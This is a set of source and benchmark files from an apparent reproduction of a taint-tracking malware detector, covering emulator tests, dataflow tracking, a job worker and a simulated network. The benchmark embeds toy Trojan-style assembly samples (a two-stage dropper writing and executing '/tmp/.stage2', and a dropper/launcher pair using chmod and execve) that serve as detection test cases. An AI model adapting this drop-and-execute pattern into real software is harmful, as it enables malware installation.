            Instruction(Opcode.NOP),
            Instruction(Opcode.RET),
        )
        cpu.regs.set("ebx", 2)
        (res,) = run(cpu, 1)
        assert res.call_target == 2
        assert cpu.pc == 2


class TestStack:
    def test_push_pop(self):
        cpu = make_cpu(
            Instruction(Opcode.PUSH, Imm(11)),
            Instruction(Opcode.PUSH, Reg("eax")),
            Instruction(Opcode.POP, Reg("ebx")),
            Instruction(Opcode.POP, Reg("ecx")),
        )
        cpu.regs.set("eax", 22)
        run(cpu, 4)
        assert cpu.regs.get("ebx") == 22
        assert cpu.regs.get("ecx") == 11
        assert cpu.regs.get("esp") == 0x1000

    def test_push_transfer_records_stack_cell(self):
        cpu = make_cpu(Instruction(Opcode.PUSH, Reg("eax")))
        (res,) = run(cpu, 1)
        assert res.transfers == [
            TaintTransfer(mem_loc(0xFFF), (reg_loc("eax"),))
        ]


class TestSystem:
    def test_int_0x80_yields_syscall(self):
        cpu = make_cpu(Instruction(Opcode.INT, Imm(0x80)))
        (res,) = run(cpu, 1)
        assert res.kind is StepKind.SYSCALL
        assert cpu.pc == 1  # advanced past the INT

    def test_other_interrupt_faults(self):
        cpu = make_cpu(Instruction(Opcode.INT, Imm(3)))
        with pytest.raises(CpuFault):
            cpu.step()

    def test_cpuid_sets_registers_and_hardware_taint(self):
        cpu = make_cpu(Instruction(Opcode.CPUID))
        (res,) = run(cpu, 1)
        assert res.kind is StepKind.CPUID
        for reg in ("eax", "ebx", "ecx", "edx"):
            assert cpu.regs.get(reg) == CPUID_VALUES[reg]
        assert all(t.srcs == (LOC_HARDWARE,) for t in res.transfers)
        assert len(res.transfers) == 4

    def test_hlt_halts(self):
        cpu = make_cpu(Instruction(Opcode.HLT))
        (res,) = run(cpu, 1)
        assert res.kind is StepKind.HALT
        assert cpu.halted
        with pytest.raises(CpuFault):
            cpu.step()

    def test_fetch_unmapped_faults(self):
        cpu = make_cpu(Instruction(Opcode.NOP))
        cpu.step()
        with pytest.raises(CpuFault):
            cpu.step()

    def test_copy_preserves_state(self):
        cpu = make_cpu(Instruction(Opcode.MOV, Reg("eax"), Imm(5)),
                       Instruction(Opcode.NOP))
        cpu.step()
        mem2 = cpu.memory.copy()
        dup = cpu.copy(mem2)
        assert dup.pc == cpu.pc
        assert dup.regs.get("eax") == 5
        dup.regs.set("eax", 6)
        assert cpu.regs.get("eax") == 5

    def test_step_result_next_pc(self):
        cpu = make_cpu(Instruction(Opcode.JMP, Imm(7)))
        (res,) = run(cpu, 1)
        assert res.next_pc == 7
