"""TagSetInterner invariants: canonical identity, memo safety, bounds."""

from repro.taint import DataSource, TagSet, TagSetInterner
from repro.taint.tags import EMPTY


def ts(*names):
    result = TagSet.empty()
    for name in names:
        result = result.union(TagSet.of(DataSource.FILE, name))
    return result


class TestIntern:
    def test_equal_sets_become_identical(self):
        interner = TagSetInterner()
        a = interner.intern(ts("a", "b"))
        b = interner.intern(ts("b", "a"))
        assert a == b
        assert a is b

    def test_empty_is_the_singleton(self):
        interner = TagSetInterner()
        assert interner.intern(TagSet.empty()) is EMPTY

    def test_table_growth(self):
        interner = TagSetInterner()
        base = len(interner)
        interner.intern(ts("x"))
        interner.intern(ts("y"))
        interner.intern(ts("x"))  # duplicate: no growth
        assert len(interner) == base + 2


class TestUnion:
    def test_matches_plain_union(self):
        interner = TagSetInterner()
        a, b = ts("a"), ts("b", "c")
        assert interner.union(a, b) == a.union(b)

    def test_identity_shortcuts(self):
        interner = TagSetInterner()
        a = interner.intern(ts("a"))
        assert interner.union(a, a) is a
        assert interner.union(a, EMPTY) is a
        assert interner.union(EMPTY, a) is a

    def test_repeated_union_returns_same_object(self):
        interner = TagSetInterner()
        a = interner.intern(ts("a"))
        b = interner.intern(ts("b"))
        first = interner.union(a, b)
        assert interner.union(a, b) is first

    def test_union_result_is_interned(self):
        interner = TagSetInterner()
        a = interner.intern(ts("a"))
        b = interner.intern(ts("b"))
        u = interner.union(a, b)
        assert interner.intern(ts("a", "b")) is u

    def test_memo_hit_requires_identity(self):
        # equal-but-distinct operands must not be conflated through a
        # stale id() — the entry verifies both operands by identity
        interner = TagSetInterner()
        a1, b = ts("a"), ts("b")
        r1 = interner.union(a1, b)
        a2 = ts("a")
        assert a2 is not a1
        r2 = interner.union(a2, b)
        assert r2 == r1

    def test_memo_bounded(self):
        interner = TagSetInterner(max_memo=4)
        sets = [interner.intern(ts(f"s{i}")) for i in range(10)]
        for i in range(9):
            interner.union(sets[i], sets[i + 1])
        assert len(interner._memo) <= 4

    def test_results_stay_correct_across_memo_clear(self):
        interner = TagSetInterner(max_memo=2)
        a, b, c = (interner.intern(ts(x)) for x in "abc")
        assert interner.union(a, b) == a.union(b)
        assert interner.union(b, c) == b.union(c)
        assert interner.union(a, c) == a.union(c)
        assert interner.union(a, b) == a.union(b)
