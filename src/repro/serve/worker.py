"""Serve worker: one warm Session process draining the daemon's jobs.

Like a fleet worker, a serve worker owns one :class:`repro.api.Session`
for its whole life, so the translated-block store, tag-set interner and
assemble memo stay warm across unrelated submissions — the "warm pool"
that makes an always-on daemon faster than batch.  Unlike a fleet
worker, its input is open-ended: jobs arrive one at a time on a
dedicated queue, results (and *live warnings*, via
:class:`~repro.serve.streaming.TapAnalyzer`) stream back on the shared
result queue, and the worker announces readiness after every job so the
supervisor can health-check and dispatch.

Containment: any exception inside a run is answered as an ``error``
message with the traceback — a worker only dies on a genuine crash
(``os._exit``, segfault, kill), which the supervisor turns into a
retry or a synthesized error record.  Either way no submission is ever
left unanswered.
"""

from __future__ import annotations

import traceback
from typing import Any, Callable, Dict, Optional, Tuple

from repro.api import Session
from repro.core.report import RunReport
from repro.secpert.policy import PolicyConfig
from repro.secpert.secpert import Secpert
from repro.serve.protocol import Submission
from repro.serve.streaming import TapAnalyzer, warning_to_wire


def execute_submission(
    session: Session,
    submission: Submission,
    on_warning: Optional[Callable[[int, object], None]] = None,
) -> Tuple[RunReport, Optional[bool], Optional[Dict[str, Any]]]:
    """Run one submission on a warm session; return (report, ok, engine).

    ``ok`` is the registry classification check for workload
    submissions, ``None`` for inline source (no expectation to check).
    ``on_warning(seq, warning)`` fires live, in order, as Secpert emits.
    ``engine`` is the analyzer engine's match-cost snapshot
    (:meth:`repro.expert.InferenceEngine.match_stats`) when the run owns
    its Secpert (streaming submissions), else ``None``.
    """
    tap = None
    if on_warning is not None:
        policy = submission.options.policy or PolicyConfig()
        tap = TapAnalyzer(
            Secpert(policy, rete=submission.options.rete), on_warning
        )

    def engine_stats() -> Optional[Dict[str, Any]]:
        if tap is None:
            return None
        return tap.inner.engine.match_stats()

    if submission.workload is not None:
        from repro.fleet.refs import WorkloadRef

        table, name = submission.workload
        workload = WorkloadRef.from_registry(table, name).resolve()
        report = session.run_workload(
            workload, options=submission.options, analyzer=tap
        )
        return report, workload.classified_correctly(report), engine_stats()

    def setup(hth) -> None:
        from repro.kernel.network import ConversationPeer, SinkPeer

        for path, content in sorted(submission.files.items()):
            hth.fs.write_text(path, content)
        for addr, payload in sorted(submission.peers.items()):
            host, _, port = addr.partition(":")
            if payload:
                hth.network.add_peer(
                    host, int(port),
                    lambda host=host, payload=payload: ConversationPeer(
                        host, opening=payload.encode()
                    ),
                )
            else:
                hth.network.add_peer(
                    host, int(port), lambda host=host: SinkPeer(host)
                )

    report = session.run(
        submission.source,
        argv=(
            list(submission.argv) if submission.argv is not None
            else [submission.path]
        ),
        stdin=submission.stdin,
        setup=setup,
        options=submission.options,
        path=submission.path,
        analyzer=tap,
    )
    return report, None, engine_stats()


def serve_worker_main(worker_id: int, job_queue, result_queue) -> None:
    """Process entrypoint: announce readiness, loop jobs until poisoned.

    Wire messages out (all carry ``worker``; job-scoped ones echo
    ``job``/``attempt`` so the supervisor can drop stale messages after
    a crash-retry)::

        {"kind": "ready"}                       idle, health heartbeat
        {"kind": "start", job, attempt}         picked a job up
        {"kind": "warning", job, attempt, seq, warning}
        {"kind": "result", job, attempt, report, ok, elapsed, engine}
        {"kind": "error",  job, attempt, error, elapsed}
        {"kind": "bye"}                         clean poison-pill exit
    """
    import time

    session = Session()
    result_queue.put({"kind": "ready", "worker": worker_id})
    while True:
        job = job_queue.get()
        if job is None:
            result_queue.put({"kind": "bye", "worker": worker_id})
            return
        job_id = job["id"]
        attempt = job["attempt"]
        started = time.perf_counter()
        result_queue.put({
            "kind": "start", "worker": worker_id,
            "job": job_id, "attempt": attempt,
        })

        def on_warning(seq: int, warning) -> None:
            result_queue.put({
                "kind": "warning",
                "worker": worker_id,
                "job": job_id,
                "attempt": attempt,
                "seq": seq,
                "warning": warning_to_wire(warning),
            })

        try:
            submission = Submission.from_wire(job["spec"])
            report, ok, engine = execute_submission(
                session, submission,
                on_warning=on_warning if job.get("stream", True) else None,
            )
            result_queue.put({
                "kind": "result",
                "worker": worker_id,
                "job": job_id,
                "attempt": attempt,
                "report": report.to_dict(),
                "ok": ok,
                "elapsed": time.perf_counter() - started,
                "engine": engine,
            })
        except Exception:
            result_queue.put({
                "kind": "error",
                "worker": worker_id,
                "job": job_id,
                "attempt": attempt,
                "error": traceback.format_exc(),
                "elapsed": time.perf_counter() - started,
            })
        result_queue.put({"kind": "ready", "worker": worker_id})
