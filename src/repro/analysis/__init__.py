"""Static analyses and structured paper data: the Appendix B Secure
Binary checker, the Table 1/2 characterization data, and the Table 3 /
Figure 5 instrumentation views."""

from repro.analysis.characterization import (
    TABLE1_PROFILES,
    ExploitProfile,
    table1_rows,
    table2_rows,
)
from repro.analysis.instrumentation import (
    GRANULARITY_TABLE,
    GranularityRow,
    instrumentation_listing,
    render_listing,
)
from repro.analysis.secure_binary import (
    RESOURCE_ROUTINES,
    SecureBinaryReport,
    Violation,
    check_secure_binary,
    extract_strings,
)

__all__ = [
    "check_secure_binary",
    "SecureBinaryReport",
    "Violation",
    "extract_strings",
    "RESOURCE_ROUTINES",
    "ExploitProfile",
    "TABLE1_PROFILES",
    "table1_rows",
    "table2_rows",
    "GranularityRow",
    "GRANULARITY_TABLE",
    "instrumentation_listing",
    "render_listing",
]
