"""Section 10 future-work extensions, implemented and measured:

* memory-abuse rules (item 4) on a Trojan.Vundo-style drainer,
* executable-download detection (item 5) on a Trojan.Lodeight-style
  downloader,
* cross-session tracking (item 6) on a two-stage dropper,
* simultaneous-session correlation (item 7) on a dropper/launcher pair.
"""

from benchmarks.harness import (
    assert_all_match,
    emit_classification_table,
    once,
    render_table,
    run_workloads,
    write_result,
)
from repro.core.report import Verdict
from repro.isa import assemble
from repro.programs.extensions import extension_workloads
from repro.secpert.correlation import MultiProgramMonitor
from repro.secpert.sessions import CrossSessionMonitor

TWO_STAGE = r"""
main:
    mov ebx, dropfile
    mov ecx, 0
    call open
    cmp eax, 0
    jl stage1
    mov ebx, eax
    call close
    mov ebx, dropfile
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
stage1:
    mov ebx, dropfile
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
dropfile: .asciz "/tmp/.stage2"
payload: .asciz "stage two payload"
"""

DROPPER = r"""
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
payload: .asciz "innocuous content"
"""

LAUNCHER = r"""
main:
    mov ebp, esp
    mov ebx, 2000
    call sleep
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0x1ed
    call chmod
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
"""


def bench_ext_memory_and_download(benchmark):
    results = once(benchmark, lambda: run_workloads(extension_workloads()))
    emit_classification_table(
        "Section 10 extensions: memory abuse + executable download",
        "ext_memory_download.txt",
        results,
    )
    assert_all_match(results)


def bench_ext_cross_session(benchmark):
    def run():
        monitor = CrossSessionMonitor()
        image = assemble("/home/user/twostage", TWO_STAGE)
        monitor.hth.register_binary(image)
        s1 = monitor.run_session(image)
        s2 = monitor.run_session("/home/user/twostage")
        return s1, s2

    s1, s2 = once(benchmark, run)
    rows = [
        ("session 1 (drop)", s1.verdict.value,
         ",".join(sorted({w.rule for w in s1.warnings}))),
        ("session 2 (use)", s2.verdict.value,
         ",".join(sorted({w.rule for w in s2.warnings}))),
    ]
    text = render_table(
        "Section 10 item 6: cross-session tracking of a two-stage Trojan",
        ("session", "verdict", "rules"),
        rows,
    )
    write_result("ext_cross_session.txt", text)
    print("\n" + text)
    assert s1.verdict is Verdict.LOW       # deferred, not silenced
    assert s2.verdict is Verdict.HIGH      # escalated with history


def bench_ext_multi_program(benchmark):
    def run():
        monitor = MultiProgramMonitor()
        monitor.spawn(assemble("/opt/dropper", DROPPER),
                      argv=["/opt/dropper", "/tmp/part2"])
        monitor.spawn(assemble("/opt/launcher", LAUNCHER),
                      argv=["/opt/launcher", "/tmp/part2"])
        monitor.run()
        return monitor

    monitor = once(benchmark, run)
    interactions = monitor.interaction_warnings()
    rows = [
        (w.headline, w.severity.label()) for w in interactions
    ]
    text = render_table(
        "Section 10 item 7: simultaneous-session interaction detection",
        ("interaction", "severity"),
        rows,
    )
    write_result("ext_multi_program.txt", text)
    print("\n" + text)
    assert len(interactions) == 1
