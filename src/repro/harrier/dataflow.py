"""Instruction-level dataflow tracking (paper section 7.3.1).

Replays the CPU's :class:`TaintTransfer` records over the process shadow
state.  The interesting cases, matching the paper's examples:

* ``mov %esp,%ebp`` — destination inherits the source register's tags;
* ``movl $0x4, mem`` — an immediate carries the BINARY tag of the image
  that contains the instruction;
* ``add %ebx,%eax`` — destination gets the *union* of both operands' tags;
* ``cpuid`` — the output registers get the HARDWARE tag.

Three application paths exist: :meth:`InstructionDataFlow.apply` replays
one :class:`StepResult` (the interpreter path),
:meth:`InstructionDataFlow.apply_block` replays a whole
:class:`BlockRecord` from the block cache's precompiled taint templates,
and :meth:`InstructionDataFlow.apply_summary` — the fast path — skips
the per-transfer replay entirely and evaluates the block's precomputed
:class:`TaintSummary` support expressions against the entry state, in
O(#outputs).  The batched paths route every union through a
:class:`TagSetInterner`, so the steady state of a guest loop — the same
block's templates over mostly-unchanged shadow state — costs dict
probes instead of frozenset allocations.
"""

from __future__ import annotations

from typing import Dict

from repro.harrier.state import ProcessShadow
from repro.isa.cpu import StepResult
from repro.isa.memory import MAX_CSTRING
from repro.isa.translate import BlockRecord
from repro.taint.tags import EMPTY, DataSource, TagSet, TagSetInterner

_HARDWARE = TagSet.of(DataSource.HARDWARE)


def _apply_noop(shadow, rec) -> bool:
    """Shared applier for blocks whose summary has no taint effects."""
    return True


class InstructionDataFlow:
    """Stateless transfer interpreter (tag caches only)."""

    def __init__(self, interner: TagSetInterner = None) -> None:
        self._binary_tags: Dict[str, TagSet] = {}
        #: Shared hash-consing table + union memo for the batched path.
        #: May be handed in warm (an ``EngineCache`` reusing interned
        #: sets across a sweep's runs); interning is value-preserving,
        #: so sharing never changes observable output.
        self.interner = interner if interner is not None else TagSetInterner()

    def binary_tag(self, image_name: str) -> TagSet:
        tags = self._binary_tags.get(image_name)
        if tags is None:
            tags = self.interner.intern(
                TagSet.of(DataSource.BINARY, image_name)
            )
            self._binary_tags[image_name] = tags
        return tags

    def apply(self, shadow: ProcessShadow, step: StepResult) -> None:
        transfers = step.transfers
        if not transfers:
            return
        regs = shadow.regs
        memory = shadow.memory
        imm_tags: TagSet = None  # lazily resolved per step
        for transfer in transfers:
            tags = EMPTY
            for src in transfer.srcs:
                kind = src[0]
                if kind == "reg":
                    tags = tags.union(regs.get(src[1]))
                elif kind == "mem":
                    tags = tags.union(memory.get(src[1]))
                elif kind == "imm":
                    if imm_tags is None:
                        image = shadow.code_image.get(step.pc)
                        imm_tags = (
                            self.binary_tag(image.name)
                            if image is not None
                            else EMPTY
                        )
                    tags = tags.union(imm_tags)
                elif kind == "hardware":
                    tags = tags.union(_HARDWARE)
                # 'zero' contributes nothing (xor r,r / call return slots)
            dst = transfer.dst
            if dst[0] == "reg":
                regs.set(dst[1], tags)
            else:
                memory.set(dst[1], tags)

    def apply_block(self, shadow: ProcessShadow, rec: BlockRecord) -> None:
        """Replay one block record's taint templates over the shadow.

        Equivalent to :meth:`apply` over the per-instruction StepResults
        the record stands for, but with the transfer shapes precompiled:
        the only per-execution inputs are the dynamic memory addresses in
        ``rec.holes`` (consumed positionally — at most one per
        instruction in this ISA) and the shadow state itself.
        """
        n = rec.executed
        if n == 0:
            return
        plan = rec.plan
        taint = plan.taint
        holes = rec.holes
        regs = shadow.regs
        rget = regs.get
        rset = regs.set
        memory = shadow.memory
        mget = memory.probe
        mset = memory.set
        union = self.interner.union
        imm_tags: TagSet = None  # lazily resolved once per block
        cursor = 0
        addr = 0
        for i in range(n):
            tmpl = taint[i]
            if tmpl is None:
                continue
            has_hole, transfers = tmpl
            if has_hole:
                addr = holes[cursor]
                cursor += 1
            for dst_spec, src_specs in transfers:
                tags = EMPTY
                for src in src_specs:
                    kind = src[0]
                    if kind == "reg":
                        tags = union(tags, rget(src[1]))
                    elif kind == "mem?":
                        cell = mget(addr)
                        if cell is not None:
                            tags = union(tags, cell)
                    elif kind == "imm":
                        if imm_tags is None:
                            # Blocks never span images (placement leaves
                            # unmapped gaps), so one lookup covers them.
                            image = shadow.code_image.get(plan.start)
                            imm_tags = (
                                self.binary_tag(image.name)
                                if image is not None
                                else EMPTY
                            )
                        tags = union(tags, imm_tags)
                    elif kind == "hardware":
                        tags = union(tags, _HARDWARE)
                    # 'zero' contributes nothing
                if dst_spec[0] == "reg":
                    rset(dst_spec[1], tags)
                else:
                    mset(addr, tags)

    def apply_summary(self, shadow: ProcessShadow, rec: BlockRecord) -> bool:
        """Fast path: evaluate the block's :class:`TaintSummary` instead
        of replaying its templates transfer by transfer.

        Valid only for *full* executions (``rec.executed ==
        plan.length`` — the caller checks), because the summary folds
        the whole block.  Returns False — caller falls back to
        :meth:`apply_block` — when a load aliases an earlier store of
        the same block, the one case where entry-state evaluation and
        sequential replay can disagree.

        The common shapes this collapses:

        * a pure-compute block over clean inputs writes nothing but
          empty sets — a handful of dict pops clearing stale tags;
        * a loop body whose registers already hold the image's BINARY
          tag re-derives the same interned sets via memoized unions —
          per *output*, not per instruction.
        """
        plan = rec.plan
        applier = plan.taint_apply
        if applier is None:
            applier = self.install_applier(plan)
        return applier(shadow, rec)

    def install_applier(self, plan):
        """Compile one block's :class:`TaintSummary` into an applier
        closure — ``applier(shadow, rec) -> bool`` — and cache it on
        ``plan.taint_apply``, mirroring how the translator compiles
        ``body_ops``: the summary's shape is frozen into closure cells
        so the per-execution cost is the entry-key build, one cache
        probe, and the output writes.
        """
        summary = plan.taint_summary
        if summary.is_noop:
            plan.taint_apply = _apply_noop
            return _apply_noop
        live_in = summary.live_in
        #: Default args for the C-level ``map(rget, live_in, empties)``
        #: key build: absent register == EMPTY.
        empties = (EMPTY,) * len(live_in)
        read_holes = summary.read_holes
        alias_checks = summary.alias_checks
        zero_gate = summary.zero_taint_safe
        touch_holes = summary.touch_holes
        evaluate = self._evaluate_summary
        #: key -> outputs; guest loops re-enter with the same entry *tag
        #: values* even as addresses change, so evaluation repeats.
        memo: dict = {}
        #: Single-entry front cache: tuple equality short-circuits on
        #: element identity, so the steady-state hit does not even hash
        #: the key.  Closure cells shared with ``resolve``, which
        #: refreshes them on every miss.
        front_key = None
        front_out = None
        #: (register dict identity, generation) the last *state-neutral*
        #: application / cached reg-key build was made against.  When
        #: they still match, the register file provably has not changed
        #: since — see :attr:`ShadowRegisters.gen`.
        front_rdict = None
        front_rgen = -1
        front_rkey = None

        def resolve(shadow, rtags, holes, key):
            """The front-cache miss path: zero-skip, memo, evaluate.

            Returns the outputs tuple, or None when the zero-taint skip
            applies (nothing tainted can flow in — clean register file,
            no imm/hardware sources, every touched page absent — so
            every output is the empty set and nothing is stale).
            """
            nonlocal front_key, front_out
            if zero_gate and not rtags:
                page_live = shadow.memory.page_live
                for idx in touch_holes:
                    if page_live(holes[idx]):
                        break
                else:
                    return None
            out = memo.get(key)
            if out is None:
                out = evaluate(shadow, plan, summary, key)
                if len(memo) >= 64:
                    # Pathological value churn; keep the memo tiny —
                    # the working set refills in a few entries.
                    memo.clear()
                memo[key] = out
            front_key = key
            front_out = out
            return out

        if not (read_holes or alias_checks or summary.mem_writes):
            # Register-only block — the most common shape (about half
            # the executed blocks): no memory holes at all.  Outputs
            # depend on the register file alone, so once an application
            # changes nothing (the guest-loop steady state: every write
            # re-derives the value already there), the block collapses
            # to a generation check until *any* register tag changes.
            def applier(shadow, rec) -> bool:
                nonlocal front_rdict, front_rgen
                regs = shadow.regs
                # The raw register-tag dict, like ``BlockPlan.execute``
                # binds the raw register values: absent key == EMPTY,
                # by ShadowRegisters' own invariant.
                rtags = regs._tags
                gen = regs.gen
                if gen == front_rgen and rtags is front_rdict:
                    return True
                key = tuple(map(rtags.get, live_in, empties))
                if key == front_key:
                    out = front_out
                else:
                    out = resolve(shadow, rtags, (), key)
                    if out is None:
                        # Zero-taint skip: state-neutral by definition.
                        front_rgen = gen
                        front_rdict = rtags
                        return True
                reg_sets, reg_clears, _ = out
                changed = False
                rget = rtags.get
                for reg, tags in reg_sets:
                    if rget(reg) is not tags:
                        rtags[reg] = tags
                        changed = True
                for reg in reg_clears:
                    if rtags.pop(reg, None) is not None:
                        changed = True
                if changed:
                    regs.gen = gen + 1
                else:
                    # State-neutral: arm the generation skip.
                    front_rgen = gen
                    front_rdict = rtags
                return True
        else:
            # Memory-touching block: the probes must run every time
            # (the hole addresses change between executions), but the
            # register part of the key is reused while the register
            # file's generation holds still.
            def applier(shadow, rec) -> bool:
                nonlocal front_rdict, front_rgen, front_rkey
                holes = rec.holes
                if alias_checks:
                    for ridx, widxs in alias_checks:
                        addr = holes[ridx]
                        for widx in widxs:
                            if holes[widx] == addr:
                                return False
                regs = shadow.regs
                rtags = regs._tags
                gen = regs.gen
                if gen == front_rgen and rtags is front_rdict:
                    key = front_rkey
                else:
                    key = tuple(map(rtags.get, live_in, empties))
                    front_rgen = gen
                    front_rdict = rtags
                    front_rkey = key
                if read_holes:
                    key += tuple(
                        map(
                            shadow.memory.probe,
                            map(holes.__getitem__, read_holes),
                        )
                    )
                if key == front_key:
                    out = front_out
                else:
                    out = resolve(shadow, rtags, holes, key)
                    if out is None:
                        return True
                reg_sets, reg_clears, mem_out = out
                changed = False
                rget = rtags.get
                for reg, tags in reg_sets:
                    if rget(reg) is not tags:
                        rtags[reg] = tags
                        changed = True
                for reg in reg_clears:
                    if rtags.pop(reg, None) is not None:
                        changed = True
                if changed:
                    regs.gen = gen + 1
                if mem_out:
                    mset = shadow.memory.set
                    for idx, tags in mem_out:
                        mset(holes[idx], tags)
                return True

        plan.taint_apply = applier
        return applier

    def _evaluate_summary(self, shadow, plan, summary, key):
        """Evaluate every support expression against the entry values in
        ``key`` (the memo-miss path of :meth:`apply_summary`).

        Returns ``(reg_sets, reg_clears, mem_out)``: the non-empty
        register writes, the registers whose stale tags must be cleared,
        and the memory stores by hole index — pre-split so the memo-hit
        path applies them with raw dict operations.
        """
        union = self.interner.union
        nlive = len(summary.live_in)
        in_vals = dict(zip(summary.live_in, key))
        mem_vals = dict(zip(summary.read_holes, key[nlive:]))
        imm_tags: TagSet = None  # lazily resolved once per block
        hw = _HARDWARE

        def evaluate(support) -> TagSet:
            nonlocal imm_tags
            tags = EMPTY
            for token in support:
                kind = token[0]
                if kind == "reg":
                    tags = union(tags, in_vals[token[1]])
                elif kind == "mem":
                    cell = mem_vals[token[1]]
                    if cell is not None:
                        tags = union(tags, cell)
                elif kind == "imm":
                    if imm_tags is None:
                        image = shadow.code_image.get(plan.start)
                        imm_tags = (
                            self.binary_tag(image.name)
                            if image is not None
                            else EMPTY
                        )
                    tags = union(tags, imm_tags)
                else:  # "hw"
                    tags = union(tags, hw)
            return tags

        reg_sets = []
        reg_clears = []
        for reg, support in summary.reg_writes:
            tags = evaluate(support)
            if tags._tags:
                reg_sets.append((reg, tags))
            else:
                reg_clears.append(reg)
        return (
            tuple(reg_sets),
            tuple(reg_clears),
            tuple(
                (idx, evaluate(support))
                for idx, support in summary.mem_writes
            ),
        )

    # -- helpers used by the event generator --------------------------------
    @staticmethod
    def string_tags(proc, shadow: ProcessShadow, addr: int,
                    max_len: int = MAX_CSTRING) -> TagSet:
        """Union of shadow tags over the NUL-terminated string at ``addr``.

        This is "the data source of the resource ID" (paper section 5.1):
        e.g. the provenance of a file-name string passed to open().

        The scan window matches :meth:`FlatMemory.read_cstring` (same
        ``MAX_CSTRING`` default, NUL cell excluded); where read_cstring
        faults on an unterminated string, this returns the union over
        the full window — the monitor must stay conservative, never
        raise, for strings only the guest mis-terminated.
        """
        tags = EMPTY
        cells = proc.memory.cells.get
        shadow_cells = shadow.memory.probe
        for i in range(max_len):
            a = addr + i
            if cells(a, 0) == 0:
                break
            cell = shadow_cells(a)
            if cell is not None:
                tags = tags.union(cell)
        return tags

    @staticmethod
    def range_tags(shadow: ProcessShadow, start: int, length: int) -> TagSet:
        """Union of shadow tags over [start, start+length)."""
        return shadow.memory.union_of_range(start, length)
