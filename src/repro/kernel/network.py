"""Simulated network: DNS, listeners, connections, scripted remote peers.

The paper's workloads need three network behaviours:

* a guest *client* connecting out to a (possibly hardcoded) address — the
  remote side here is a :class:`ScriptedPeer` that can push data back
  (e.g. the "Remote execve" micro-benchmark receives a program name from
  the attacker's socket);
* a guest *server* (pma, the socket micro-benchmarks) accepting
  connections that arrive at scheduled virtual times;
* name resolution (``gethostbyname``), backed by a DNS table — the tag
  short-circuit problem of paper section 7.2 exists precisely because the
  resolved address does not originate from the name string.

Addresses are integers; ``format_addr`` renders "host:port" strings for
warning messages, reverse-resolving known names the way the paper's output
shows ("duero:40400 (AF_INET)").
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

AF_INET = 2
SOCK_STREAM = 1

#: Conventional address for the local host.
LOCALHOST_NAME = "LocalHost"
LOCALHOST_IP = 0x7F000001


def dotted(ip: int) -> str:
    return ".".join(str((ip >> shift) & 0xFF) for shift in (24, 16, 8, 0))


class ScriptedPeer:
    """A remote endpoint driven by a script instead of a guest process."""

    def __init__(self, label: str = "remote") -> None:
        self.label = label
        #: Everything the guest sent to this peer (assertable in tests).
        self.received = bytearray()

    def on_connect(self, connection: "Connection") -> bytes:
        """Data pushed to the guest immediately after connect."""
        return b""

    def on_receive(self, connection: "Connection", data: bytes) -> bytes:
        """Called when the guest sends ``data``; returns the response."""
        return b""


class ConversationPeer(ScriptedPeer):
    """A peer that sends ``opening`` on connect and then one scripted reply
    per message received from the guest (the pma "attacker" shape)."""

    def __init__(
        self,
        label: str = "remote",
        opening: bytes = b"",
        replies: Optional[List[bytes]] = None,
        close_when_done: bool = True,
    ) -> None:
        super().__init__(label)
        self.opening = opening
        self.replies = list(replies or [])
        self.close_when_done = close_when_done

    def on_connect(self, connection: "Connection") -> bytes:
        if not self.replies and self.close_when_done:
            # Nothing more will ever arrive: mark the stream closed so the
            # guest reads the opening bytes and then sees EOF.
            connection.open = False
        return self.opening

    def on_receive(self, connection: "Connection", data: bytes) -> bytes:
        self.received.extend(data)
        if self.replies:
            response = self.replies.pop(0)
        else:
            response = b""
        if not self.replies and self.close_when_done:
            # Hang up once the script is exhausted so guest reads see EOF
            # (after draining any buffered data) instead of blocking forever.
            connection.open = False
        return response


class SinkPeer(ScriptedPeer):
    """A peer that silently accepts everything (exfiltration target)."""

    def on_receive(self, connection: "Connection", data: bytes) -> bytes:
        self.received.extend(data)
        return b""


@dataclass
class Connection:
    """One established stream, viewed from the guest side."""

    local_label: str
    peer_label: str
    peer: Optional[ScriptedPeer] = None
    incoming: bytearray = field(default_factory=bytearray)
    #: Raw bytes the guest wrote on this connection.
    sent: bytearray = field(default_factory=bytearray)
    open: bool = True
    #: Set when this connection was accepted by a guest server socket.
    accepted_via: Optional[str] = None

    def deliver(self, data: bytes) -> None:
        """Queue data for the guest to read."""
        self.incoming.extend(data)

    def send(self, data: bytes) -> int:
        """Guest -> peer transmission."""
        self.sent.extend(data)
        if self.peer is not None:
            response = self.peer.on_receive(self, data)
            if response:
                self.incoming.extend(response)
        return len(data)

    def close(self) -> None:
        self.open = False


@dataclass
class Listener:
    """A guest socket in the listening state."""

    address: Tuple[int, int]  # (ip, port)
    backlog: List[Connection] = field(default_factory=list)


@dataclass(order=True)
class ScheduledConnect:
    """An inbound connection that arrives at a given virtual time."""

    time: int
    target: Tuple[int, int] = field(compare=False)
    peer: ScriptedPeer = field(compare=False)


class Network:
    """The world outside the guest processes."""

    def __init__(self) -> None:
        self._dns: Dict[str, int] = {LOCALHOST_NAME: LOCALHOST_IP,
                                     "localhost": LOCALHOST_IP}
        self._reverse: Dict[int, str] = {LOCALHOST_IP: LOCALHOST_NAME}
        self._listeners: Dict[Tuple[int, int], Listener] = {}
        self._peers: Dict[Tuple[int, int], Callable[[], ScriptedPeer]] = {}
        self._scheduled: List[ScheduledConnect] = []
        self._next_ip = 0x0A000001  # 10.0.0.1 onward

    # -- DNS ----------------------------------------------------------------
    def register_host(self, name: str, ip: Optional[int] = None) -> int:
        """Add a resolvable host name; returns its address."""
        if name in self._dns:
            return self._dns[name]
        if ip is None:
            ip = self._next_ip
            self._next_ip += 1
        self._dns[name] = ip
        self._reverse.setdefault(ip, name)
        return ip

    def resolve(self, name: str) -> Optional[int]:
        return self._dns.get(name)

    def hosts_file_text(self) -> str:
        """The /etc/hosts content mirroring the DNS table."""
        lines = [f"{dotted(ip)}\t{name}" for name, ip in sorted(self._dns.items())]
